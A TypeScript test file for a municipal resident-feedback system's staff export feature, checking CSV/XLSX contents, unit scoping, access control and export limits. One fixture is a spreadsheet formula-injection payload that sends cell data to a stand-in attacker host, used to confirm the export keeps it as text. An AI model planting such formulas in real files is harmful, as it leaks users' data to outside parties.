/**
 * The staff queue's CSV and XLSX exports (/admin/phan-anh.csv, .xlsx) against a real database
 * (SQLite, and PostgreSQL when configured), read back as a spreadsheet program would: every line
 * of the filtered list rather than one page, the page's columns in words and nothing more of the
 * resident, a staff member's own units only, the page's refusals, a 400 that names a bad filter,
 * a formula typed by a resident kept as text, and the cut at the export limit said in the file.
 */
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { createFolderStore } from '../../platform/files/files.ts'
import { createI18n } from '../../platform/i18n/i18n.ts'
import { toCsv } from '../../views/table-export.ts'
import { createCalendarService } from '../calendar/index.ts'
import { loadPrincipal } from '../units/index.ts'
import { buildTestApp } from '../../../test/support/app.ts'
import type { TestApp } from '../../../test/support/app.ts'
import { Browser } from '../../../test/support/browser.ts'
import { testDialects } from '../../../test/support/databases.ts'
import { createTestStaff, createUnitTree } from '../../../test/support/factories.ts'
import { parseCsv, readXlsx } from '../../../test/support/spreadsheets.ts'
import { QUEUE_PAGE_SIZE } from './feedback.pages.tsx'
import { applyAction, exportQueue, submitFeedback } from './feedback.service.ts'
import type { FeedbackDeps, SubmitInput } from './feedback.service.ts'
import { messages } from './index.ts'
import { queueTable } from './views/queue-table.ts'

const START = '2026-03-02T02:00:00Z'
const MINUTE = 60_000
const DAY = 86_400_000
/** Reports of the filtered list: more than one page of the queue. */
const SANITATION_COUNT = QUEUE_PAGE_SIZE + 6
/** What a resident typed that a spreadsheet would run as a formula. */
const FORMULA_TITLE = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Xem ảnh")'
const CONTACT = { name: 'Trần Thị Bích', phone: '0912 345 678', email: 'bich@example.vn' }
const ADDRESS = 'Số 7 hẻm 12, khu phố 3'
const HEADERS = ['Mã', 'Nội dung', 'Loại', 'Lĩnh vực', 'Đơn vị', 'Trạng thái', 'Gửi lúc', 'Hạn', 'Trả lời lúc', 'Tiến độ', 'Người xử lý']

/** The codes of the items a queue page links to, in the page's order. */
function codesOnPage(html: string): string[] {
  return [...html.matchAll(/href="\/admin\/phan-anh\/(PA-\d{6}-\d{4,})"/g)].map((m) => m[1]!)
}

for (const dialect of testDialects) {
  describe(`feedback queue exports on ${dialect.name}`, () => {
    let t: TestApp
    let deps: FeedbackDeps
    let modA: Browser
    let modB: Browser
    let leaderA: Browser
    const ids: Record<string, number> = {}
    /** WARD-A's sanitation reports, newest first, as the queue lists them. */
    let sanitationA: string[] = []
    let wardB: string[] = []
    let onTime = ''
    let late = ''
    let formula = ''

    before(async () => {
      t = await buildTestApp(dialect, { now: START })
      const base = { db: t.database.db, clock: t.clock }
      deps = { ...base, calendar: createCalendarService(base), files: createFolderStore(t.config.filesDir), config: { baseUrl: 'https://congso.example' } }
      await createUnitTree(base)
      for (const [username, unit, role] of [
        ['mod.a', 'WARD-A', 'moderator'],
        ['lead.a', 'WARD-A', 'leader'],
        ['spec.a', 'WARD-A', 'specialist'],
        ['desk.a', 'WARD-A', 'desk_officer'],
        ['mod.b', 'WARD-B', 'moderator'],
      ] as const) {
        ids[username] = (await createTestStaff(base, username, unit, [role])).id
      }
      const as = async (username: string) => (await loadPrincipal(deps, ids[username]!))!
      const submit = async (overrides: Partial<SubmitInput>) => {
        t.clock.advance(MINUTE)
        const input: SubmitInput = {
          unitCode: 'WARD-A',
          category: 'sanitation',
          title: null,
          description: 'Nước thải đen chảy ra mương cạnh đường, mùi hôi nồng nặc mỗi buổi chiều.',
          address: ADDRESS,
          contact: CONTACT,
          wantsPublic: true,
          photos: [],
          origin: 'portal',
          ...overrides,
        }
        return (await submitFeedback(deps, input)).item.code
      }
      const assign = async (code: string) => {
        await applyAction(deps, await as('mod.a'), code, { action: 'accept' })
        await applyAction(deps, await as('mod.a'), code, { action: 'assign', assigneeUsername: 'spec.a' })
      }
      const answer = async (code: string) => applyAction(deps, await as('spec.a'), code, { action: 'answer', text: 'Đã yêu cầu cơ sở ngừng xả thải.' })
      const created: string[] = []
      for (let i = 0; i < SANITATION_COUNT; i++) created.push(await submit({ title: i === 3 ? FORMULA_TITLE : `Nước thải ở hẻm ${i + 1}` }))
      formula = created[3]!
      onTime = created[0]!
      late = created[1]!
      await assign(onTime)
      await answer(onTime)
      await assign(late)
      // Items of another field in the same ward, and of another ward: the filter and the scope leave them out.
      await submit({ category: 'waste_collection', attributes: { waste_problem: 'missed' }, title: 'Rác tồn đọng đầu hẻm' })
      wardB = [await submit({ unitCode: 'WARD-B', title: 'Nước thải ở phường Bình' }), await submit({ unitCode: 'WARD-B', title: 'Cống nghẹt ở phường Bình' })].reverse()
      // Three weeks on, the open reports are past their seven working days, and one is answered late.
      t.clock.set(new Date(new Date(START).getTime() + 21 * DAY))
      await answer(late)
      sanitationA = [...created].reverse()
      // Signed in now: a session started before the clock moved would have expired.
      modA = await new Browser(t).signIn('mod.a')
      modB = await new Browser(t).signIn('mod.b')
      leaderA = await new Browser(t).signIn('lead.a')
    })
    after(() => t.close())

    it('exports every line of the filtered list, not one page, as CSV and XLSX holding the page’s columns in words', async () => {
      const filter = 'category=sanitation&status=answered,new'
      const first = await modA.get(`/admin/phan-anh?${filter}`)
      assert.equal(first.statusCode, 200)
      assert.ok(first.body.includes('href="/admin/phan-anh.csv?status=answered%2Cnew&category=sanitation"'), 'the CSV link keeps the filter')
      assert.ok(first.body.includes('href="/admin/phan-anh.xlsx?status=answered%2Cnew&category=sanitation"'), 'the XLSX link keeps the filter')
      const second = await modA.get(`/admin/phan-anh?${filter}&page=2`)
      const onPages = [...codesOnPage(first.body), ...codesOnPage(second.body)]
      assert.equal(onPages.length, SANITATION_COUNT, 'the list is longer than a page')
      assert.deepEqual(onPages, sanitationA)

      const csvResponse = await modA.get(`/admin/phan-anh.csv?${filter}`)
      assert.equal(csvResponse.statusCode, 200, csvResponse.body.slice(0, 300))
      assert.equal(csvResponse.headers['content-type'], 'text/csv; charset=utf-8')
      assert.equal(csvResponse.headers['cache-control'], 'no-store')
      assert.equal(csvResponse.headers['content-disposition'], 'attachment; filename="phan-anh-2026-03-23.csv"')
      const csv = parseCsv(csvResponse.body)
      assert.deepEqual(csv[0], HEADERS)
      assert.deepEqual(
        csv.slice(1).map((r) => r[0]),
        sanitationA,
      )
      const line = (code: string) => csv.find((r) => r[0] === code)!
      assert.deepEqual(line(onTime).slice(2), ['Phản ánh', 'Vệ sinh môi trường', 'Phường An', 'Đã trả lời', '09:01 02/03/2026', '17:00 11/03/2026', '09:31 02/03/2026', 'Trả lời đúng hạn', 'Cán bộ spec.a'])
      assert.deepEqual(line(late).slice(5, 11), ['Đã trả lời', '09:02 02/03/2026', '17:00 11/03/2026', '09:00 23/03/2026', 'Trả lời trễ hạn', 'Cán bộ spec.a'])
      const newest = line(sanitationA[0]!)
      assert.deepEqual([...newest.slice(1, 6), ...newest.slice(8)], [`Nước thải ở hẻm ${SANITATION_COUNT}`, 'Phản ánh', 'Vệ sinh môi trường', 'Phường An', 'Mới tiếp nhận', '', 'Quá hạn', 'Chưa giao'])
      // Nothing of the resident beyond what the page shows: no name, phone, e-mail or address.
      for (const secret of [CONTACT.name, CONTACT.phone, CONTACT.email, ADDRESS]) assert.ok(!csvResponse.body.includes(secret), secret)

      const xlsxResponse = await modA.get(`/admin/phan-anh.xlsx?${filter}`)
      assert.equal(xlsxResponse.statusCode, 200)
      assert.equal(xlsxResponse.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
      assert.equal(xlsxResponse.headers['cache-control'], 'no-store')
      const sheet = await readXlsx(xlsxResponse.rawPayload)
      assert.deepEqual(sheet[0], HEADERS)
      assert.deepEqual(
        sheet.slice(1).map((r) => r[0]),
        sanitationA,
      )
      assert.deepEqual(sheet.find((r) => r[0] === onTime)!.slice(5, 10), ['Đã trả lời', '09:01 02/03/2026', '17:00 11/03/2026', '09:31 02/03/2026', 'Trả lời đúng hạn'])
    })

    it('keeps a resident’s formula as text in both files', async () => {
      const csv = parseCsv((await modA.get('/admin/phan-anh.csv?category=sanitation')).body)
      assert.equal(csv.find((r) => r[0] === formula)![1], `'${FORMULA_TITLE}`)
      const sheet = await readXlsx((await modA.get('/admin/phan-anh.xlsx?category=sanitation')).rawPayload)
      // A formula would come back as an object with a `formula`; text comes back as a string.
      assert.equal(sheet.find((r) => r[0] === formula)![1], `'${FORMULA_TITLE}`)
    })

    it('gives a staff member only their own units’ items, whatever unit the address asks for', async () => {
      const own = parseCsv((await modB.get('/admin/phan-anh.csv')).body)
      assert.deepEqual(
        own.slice(1).map((r) => r[0]),
        wardB,
      )
      const asked = await modB.get('/admin/phan-anh.xlsx?unit=WARD-A&category=sanitation')
      assert.equal(asked.statusCode, 200)
      assert.deepEqual(await readXlsx(asked.rawPayload), [HEADERS], 'headers only: no line of the other ward')
      const otherWard = parseCsv((await modA.get('/admin/phan-anh.csv?unit=WARD-B')).body)
      assert.deepEqual(otherWard, [HEADERS])
    })

    it('refuses the exports as the page is refused: anonymous to sign in, no feedback role 403, the register to leaders only', async () => {
      for (const url of ['/admin/phan-anh', '/admin/phan-anh.csv', '/admin/phan-anh.xlsx?category=sanitation']) {
        const anonymous = await t.app.inject(url)
        assert.equal(anonymous.statusCode, 303, url)
        assert.match(String(anonymous.headers.location), /^\/sign-in/, url)
      }
      const desk = await new Browser(t).signIn('desk.a')
      for (const url of ['/admin/phan-anh', '/admin/phan-anh.csv', '/admin/phan-anh.xlsx']) assert.equal((await desk.get(url)).statusCode, 403, url)
      assert.equal((await modA.get('/admin/phan-anh/so-khieu-nai-to-cao.csv')).statusCode, 403)
      const register = await leaderA.get('/admin/phan-anh/so-khieu-nai-to-cao.xlsx')
      assert.equal(register.statusCode, 200)
      assert.match(String(register.headers['content-disposition']), /filename="so-khieu-nai-to-cao-2026-03-23\.xlsx"/)
      assert.deepEqual(await readXlsx(register.rawPayload), [HEADERS], 'no complaint or denunciation was received')
    })

    it('answers a filter that names nothing with a 400 that says which filter', async () => {
      for (const [url, filter] of [
        ['/admin/phan-anh.csv?status=nonsense', 'Trạng thái'],
        ['/admin/phan-anh.xlsx?kind=poem', 'Loại'],
        ['/admin/phan-anh.csv?category=nowhere', 'Lĩnh vực'],
        ['/admin/phan-anh.csv?unit=NOWHERE', 'Đơn vị'],
      ] as const) {
        const res = await modA.get(url)
        assert.equal(res.statusCode, 400, url)
        assert.match(res.headers['content-type'] as string, /^text\/html/, url)
        assert.ok(res.body.includes(`bộ lọc “${filter}” có giá trị không hợp lệ`), `${url}: ${res.body.slice(0, 200)}`)
      }
    })

    it('cuts an export at its limit, newest first, and says so in its last line', async () => {
      const principal = (await loadPrincipal(deps, ids['mod.a']!))!
      const cut = await exportQueue(deps, principal, { category: 'sanitation' }, 5)
      assert.equal(cut.total, SANITATION_COUNT)
      assert.deepEqual(
        cut.lines.map((l) => l.code),
        sanitationA.slice(0, 5),
      )
      const translate = createI18n(messages).translator('vi')
      const items = cut.lines.map((l) => ({ ...l, unitName: l.unit.name, handler: null }))
      const csv = parseCsv(toCsv(queueTable(translate, 'vi', { items, total: cut.total, limit: cut.limit }, { isRegister: false })))
      assert.equal(csv.length, 1 + 5 + 1)
      assert.equal(csv.at(-1)![0], `Chỉ gồm 5 phản ánh mới nhất trong số ${SANITATION_COUNT} phản ánh phù hợp với bộ lọc. Hãy lọc hẹp hơn để tải đủ.`)
      const whole = await exportQueue(deps, principal, { category: 'sanitation' })
      assert.equal(whole.lines.length, SANITATION_COUNT)
      assert.equal(parseCsv(toCsv(queueTable(translate, 'vi', { items: [], total: 0, limit: whole.limit }, { isRegister: false }))).length, 1, 'nothing said when nothing was cut')
    })
  })
}
